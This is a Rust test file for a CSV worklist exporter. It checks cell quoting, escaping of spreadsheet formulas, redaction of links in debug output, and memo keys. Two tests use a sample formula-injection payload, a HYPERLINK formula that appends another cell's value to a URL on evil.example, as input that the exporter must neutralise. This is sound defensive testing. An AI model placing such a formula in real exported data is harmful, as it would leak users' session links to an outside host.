//! The worklist's pure parts: CSV cells and rows, the memo key of a mint, which failures
//! are listed and how.

use super::*;

fn row() -> WorkRow {
    let mut vendor = Map::new();
    vendor.insert("unified_api".into(), json!("crm"));
    vendor.insert("service_id".into(), json!("pipedrive"));
    WorkRow {
        owner_id: "u1".into(),
        owner_name: Some("Ada, Countess".into()),
        owner_email: Some("ada@example.com".into()),
        service: "pipedrive".into(),
        status: "refresh_failed".into(),
        kind: END_USER,
        reason: Health::RefreshFailed.reason().into(),
        setting: None,
        record_ids: vec!["r1".into(), "r2".into()],
        vendor,
        link: None,
        link_expires_at: None,
        link_note: None,
        link_minted_at: None,
    }
}

#[test]
fn csv_rows_quote_commas_and_flatten_ids() {
    let mut out = Vec::new();
    write_rows(&[row()], true, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut lines = text.lines();
    assert_eq!(lines.next().unwrap(), CSV_HEADER.join(","));
    assert_eq!(
        lines.next().unwrap(),
        "u1,\"Ada, Countess\",ada@example.com,pipedrive,refresh_failed,\
         the imported token could not be refreshed,r1 r2,\
         service_id=pipedrive;unified_api=crm,,,,,end_user,"
    );
}

#[test]
fn cells_a_spreadsheet_would_run_are_prefixed_with_a_quote() {
    let cases: &[(&str, &str)] = &[
        ("Ada", "Ada"),
        ("", ""),
        (
            "=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
            "'=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
        ),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        (
            "https://links.example/session/1",
            "https://links.example/session/1",
        ),
    ];
    for (cell, expect) in cases {
        assert_eq!(csv_cell(cell), *expect, "{cell:?}");
    }
}

#[test]
fn a_formula_owner_name_is_inert_in_the_csv_next_to_a_link() {
    let mut row = row();
    row.owner_name = Some("=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")".into());
    row.owner_id = "-u1".into();
    row.link = Some("https://links.example/session/CANARY".into());
    let mut out = Vec::new();
    write_rows(&[row], true, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let line = text.lines().nth(1).unwrap();
    assert!(
        line.starts_with("'-u1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&I2,\"\"Click\"\")\","),
        "{line}"
    );
}

#[test]
fn debug_of_a_row_never_shows_its_link() {
    let mut row = row();
    row.link = Some("https://links.example/session/CANARY-link".into());
    let text = format!("{row:?}");
    assert!(!text.contains("CANARY-link"), "{text}");
    assert!(text.contains("has_link: true"), "{text}");
}

fn rows_of(owner: &str, apis: &[(&str, &str)]) -> Vec<WorkRow> {
    apis.iter()
        .map(|(api, service)| {
            let mut row = row();
            row.owner_id = owner.into();
            row.service = (*service).into();
            row.vendor = Map::from_iter([
                ("unified_api".to_owned(), json!(api)),
                ("service_id".to_owned(), json!(service)),
            ]);
            row
        })
        .collect()
}

#[test]
fn a_link_for_all_of_an_owners_services_is_keyed_by_what_it_covers() {
    let key = |rows: &[WorkRow], per_owner: bool| {
        mint_key("apideck", per_owner, &rows.iter().collect::<Vec<_>>())
    };
    let crm = rows_of("u1", &[("crm", "hubspot")]);
    let crm_and_accounting = rows_of("u1", &[("crm", "hubspot"), ("accounting", "xero")]);
    let reordered = rows_of("u1", &[("accounting", "xero"), ("crm", "hubspot")]);
    assert_ne!(key(&crm, true), key(&crm_and_accounting, true));
    assert_eq!(key(&crm_and_accounting, true), key(&reordered, true));
    assert_ne!(
        key(&crm, true),
        key(&rows_of("u2", &[("crm", "hubspot")]), true)
    );
    // One link per service: owner and service, as before.
    assert_eq!(key(&crm, false), "apideck\u{1f}u1\u{1f}hubspot");
}

#[test]
fn an_end_user_reason_keeps_the_field_it_failed_on() {
    let generic = permanent_failure(ErrorKind::Mapping).unwrap();
    assert_eq!(
        failure_row(generic, "auth.type: record auth `api_key` does not fit"),
        (format!("{generic} (auth.type)"), None)
    );
}

#[test]
fn only_mapping_and_rejected_failures_are_permanent() {
    assert!(permanent_failure(ErrorKind::Mapping).is_some());
    assert!(permanent_failure(ErrorKind::Rejected).is_some());
    for kind in [
        ErrorKind::PreExisting,
        ErrorKind::Transient,
        ErrorKind::RateLimited,
        ErrorKind::NotAttempted,
        ErrorKind::Conflict,
        ErrorKind::OutcomeUnknown,
    ] {
        assert!(permanent_failure(kind).is_none(), "{kind:?}");
    }
}
